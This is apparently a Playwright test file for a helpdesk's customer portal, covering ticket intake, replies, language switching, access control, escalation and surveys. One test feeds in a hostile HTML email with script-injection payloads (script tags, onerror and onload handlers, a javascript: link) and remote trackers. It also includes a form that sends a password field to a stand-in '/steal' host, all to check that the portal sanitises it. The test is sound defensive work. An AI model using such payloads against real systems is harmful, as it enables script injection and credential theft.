"""The customer portal in Chromium: a customer of a pack reports a ticket (the channel rule's
message appears before sending, C4), replies and confirms the solution (T4); the language
switch; another organisation's ticket is a 404; a hostile HTML mail shown on the customer's
own ticket runs no script and loads nothing remote (the page fixture fails on page errors,
console errors and requests to other hosts)."""

import re

from playwright.sync_api import expect

from atiende.channels.mail.actions import ingest
from atiende.tickets import actions
from atiende.tickets.codes import Channel, StateCategory
from atiende.tickets.models import Ticket
from tests import factories
from tests.browser.conftest import login_as, screenshot
from tests.scenarios.conftest import customer, load_shipped
from tests.web.helpers import customer_ticket

PHONE_ONLY = "High-priority incidents (total loss of service) are reported by phone only"


def aldeamo_customer():
    pack = load_shipped("aldeamo")
    org = customer(pack, language="en", name="Aldeamo customer")
    user = factories.user("customer", org, language="en", email="noc.lead@example.com")
    return org, user


def test_a_customer_reports_replies_and_confirms_the_solution(page):
    _org, user = aldeamo_customer()
    agent = factories.user("agent")
    login_as(page, user)
    page.goto("/portal/new/")
    notice = page.locator("#intake-notice")
    # A degradation: the portal takes it, with the pack's note that it is not an official
    # channel; a total outage: the pack says to phone, before anything is sent.
    page.get_by_label(re.compile("Medium — ")).check()
    expect(notice).not_to_contain_text(PHONE_ONLY)
    page.get_by_label(re.compile("High — ")).check()
    expect(notice).to_contain_text(PHONE_ONLY)
    page.get_by_label("Subject").fill("No SMS leaves the platform")
    page.get_by_label("Description of the impact").fill(
        "Since 08:10 no SMS of any campaign is delivered; the whole company is affected."
    )
    # Sub-types follow the kind: a request offers its types, an incident none.
    page.get_by_label("Service request").check()
    expect(page.get_by_label("Type of service request")).to_be_visible()
    page.get_by_label("Incident", exact=True).check()
    expect(page.get_by_label("Type of service request")).to_have_count(0)
    expect(notice).to_contain_text(PHONE_ONLY)
    screenshot(page, "portal-new-ticket", phone=True, full_page=True)
    page.get_by_role("button", name="Send").click()

    # The confirmation first: the ticket exists once the server has answered.
    expect(page.get_by_role("heading", name="We received your report")).to_be_visible()
    ticket = Ticket.objects.get()
    expect(page.locator("#case-number")).to_have_text(ticket.number)
    expect(page.locator("main")).to_contain_text(PHONE_ONLY)
    page.get_by_role("link", name="Follow the ticket").click()
    expect(page.get_by_role("heading", name="No SMS leaves the platform")).to_be_visible()

    page.get_by_label("Your reply").fill("We also see it on the e-mail platform.")
    page.get_by_role("button", name="Send reply").click()
    expect(page.locator(".message").last).to_contain_text("We also see it on the e-mail")

    actions.reply(ticket, actor=agent, channel=Channel.WEB, text="The SMPP route is restored.")
    ticket.refresh_from_db()
    actions.transition(ticket, actor=agent, channel=Channel.WEB, state="resolved")
    page.reload()
    expect(page.get_by_role("heading", name="Is the problem solved?")).to_be_visible()
    screenshot(page, "portal-ticket", phone=True)
    page.get_by_role("button", name="Yes, it is solved").click()
    expect(page.locator("#toasts")).to_contain_text(
        "Thank you for confirming that the problem is solved."
    )
    ticket.refresh_from_db()
    assert ticket.state.category == StateCategory.CLOSED
    expect(page.get_by_role("heading", name="Is the problem solved?")).to_have_count(0)


def test_the_language_switch_turns_the_portal_spanish(page, personas):
    login_as(page, personas.customer)
    page.goto("/portal/")
    expect(page.get_by_role("heading", name="My tickets")).to_be_visible()
    page.get_by_label("Language").select_option("es")
    page.get_by_role("button", name="Change").click()
    expect(page.get_by_role("heading", name="Mis casos")).to_be_visible()
    assert page.locator("html").get_attribute("lang") == "es"
    page.goto("/portal/new/")
    expect(page.get_by_role("heading", name="Reportar un problema o requerimiento")).to_be_visible()
    personas.customer.refresh_from_db()
    assert personas.customer.language == "es"


def test_another_organisations_ticket_url_is_the_404_page(page, personas):
    theirs = factories.ticket(personas.other_org, actor=personas.other_customer)
    login_as(page, personas.customer)
    response = page.goto(f"/portal/tickets/{theirs.pk}/")
    assert response.status == 404
    expect(page.get_by_role("heading", name="Not found")).to_be_visible()
    expect(page.locator("main")).not_to_contain_text(theirs.subject)


HOSTILE = """\
<html><head><style>body {{ background: url(http://203.0.113.7/bg.png) }}
p {{ width: expression(alert(1)) }}</style>
<script>window.pwned = "script";</script>
<link rel="stylesheet" href="http://203.0.113.7/evil.css"></head>
<body onload="window.pwned='onload'">
<p>The trunk drops every call after 30 seconds.</p>
<img src="http://203.0.113.7/track.png" alt="tracker">
<img src="x" onerror="window.pwned='onerror'">
<a href="javascript:window.pwned='link'">click here</a>
<svg xmlns="http://www.w3.org/2000/svg"><script>window.pwned='svg'</script>
<image href="http://203.0.113.7/svg.png"/></svg>
<iframe src="http://203.0.113.7/frame"></iframe>
<p style="background-image: url('http://203.0.113.7/inline.png')">Please call us.</p>
<form action="http://203.0.113.7/steal"><input name="password"></form>
</body></html>
"""


def hostile_mail(sender: str) -> bytes:
    html = HOSTILE.format()
    return (
        f"From: Network lead <{sender}>\r\n"
        "To: support@example.com\r\n"
        "Subject: Calls drop after 30 seconds\r\n"
        "Date: Mon, 23 Nov 2026 10:00:00 -0500\r\n"
        "Message-ID: <hostile.1@mail.example.com>\r\n"
        "MIME-Version: 1.0\r\n"
        'Content-Type: multipart/alternative; boundary="b1"\r\n'
        "\r\n"
        "--b1\r\n"
        "Content-Type: text/plain; charset=utf-8\r\n\r\n"
        "The trunk drops every call after 30 seconds.\r\n"
        "--b1\r\n"
        "Content-Type: text/html; charset=utf-8\r\n\r\n"
        + html.replace("\n", "\r\n")
        + "\r\n--b1--\r\n"
    ).encode()


def test_a_hostile_html_mail_runs_nothing_and_loads_nothing_in_the_portal(page, personas):
    sender = personas.customer.contact.email
    _inbound, outcome = ingest(hostile_mail(sender), source="import")
    ticket = outcome.ticket
    assert ticket is not None and ticket.requester_id == personas.customer.contact_id
    login_as(page, personas.customer)
    page.goto(f"/portal/tickets/{ticket.pk}/")
    body = page.locator(".message .body").first
    expect(body).to_contain_text("The trunk drops every call after 30 seconds.")
    link = page.get_by_text("click here")
    if link.count():
        assert not (link.get_attribute("href") or "").lower().startswith("javascript")
        link.click()
    page.wait_for_load_state("networkidle")
    assert page.evaluate("window.pwned") is None
    assert (
        page.locator("main script, main iframe, main form[action^='http'], main svg").count() == 0
    )
    handlers = page.evaluate(
        """() => [...document.querySelectorAll('main *')].flatMap(
            el => [...el.attributes].map(a => a.name).filter(n => n.startsWith('on')))"""
    )
    assert handlers == []
    assert page.recorder.remote_requests == []


def test_the_portal_pages_of_a_pack_customer_render_without_problems(page, personas):
    ticket = customer_ticket(personas)
    login_as(page, personas.customer_admin)
    for path in (
        "/portal/maintenance/",
        f"/portal/tickets/{ticket.pk}/",
        "/portal/password-reset/",
    ):
        response = page.goto(path)
        assert response.status == 200, path


def test_a_customer_escalates_then_answers_the_satisfaction_survey(page):
    pack = load_shipped("ecc")
    org = customer(pack, language="en", name="ECC customer")
    user = factories.user("customer", org, language="en", email="it.lead@example.com")
    agent = factories.user("agent")
    login_as(page, user)
    page.goto("/portal/new/")
    # ECC asks urgency and impact in plain words.
    page.get_by_label(re.compile("High — ")).first.check()
    page.get_by_label(re.compile("One department")).check()
    page.get_by_label("Subject").fill("Shared drive is read-only")
    page.get_by_label("Description of the impact").fill("Since 07:30 nobody in finance can save.")
    page.get_by_role("button", name="Send").click()
    expect(page.locator("#first-response")).to_contain_text("We will answer you by")
    ticket = Ticket.objects.get()
    page.get_by_role("link", name="Follow the ticket").click()

    page.get_by_text("Ask for an escalation", exact=True).click()
    page.get_by_label("Why should it be escalated?").fill("Month-end closing is blocked.")
    page.get_by_role("button", name="Send the escalation request").click()
    expect(page.locator("#toasts")).to_contain_text("Your escalation request was sent")
    expect(page.locator("main")).to_contain_text(
        "You asked for an escalation: Month-end closing is blocked."
    )

    actions.reply(ticket, actor=agent, channel=Channel.WEB, text="Permissions restored.")
    ticket.refresh_from_db()
    actions.transition(ticket, actor=agent, channel=Channel.WEB, state="resolved")
    page.reload()
    survey = page.locator("#survey-panel")
    expect(survey.get_by_role("heading", name="How did we do?")).to_be_visible()
    survey.get_by_label("5", exact=True).check()
    survey.get_by_label("Yes", exact=True).check()
    survey.get_by_label("What could we improve?").fill("Nothing, thanks.")
    survey.get_by_role("button", name="Send my answer").click()
    expect(page.locator("#survey-panel")).to_contain_text(
        "Thank you for answering the satisfaction survey."
    )
    answer = ticket.survey_answer
    assert answer.answers == {"satisfaction": 5, "solved": True, "comment": "Nothing, thanks."}
